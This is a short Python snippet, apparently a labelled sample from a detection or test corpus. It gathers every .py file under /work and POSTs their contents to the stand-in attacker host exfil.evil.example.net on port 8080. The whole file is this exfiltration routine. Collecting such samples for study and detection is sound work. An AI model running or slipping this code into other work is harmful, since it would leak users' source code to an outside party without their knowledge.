# corpus: http.client POST of source files to an attacker host on a non-standard port
import http.client
import pathlib

body = "\n".join(p.read_text(errors="ignore") for p in pathlib.Path("/work").rglob("*.py"))
conn = http.client.HTTPConnection("exfil.evil.example.net", 8080, timeout=10)
conn.request("POST", "/upload", body=body.encode(), headers={"Content-Type": "text/plain"})
print(conn.getresponse().status)
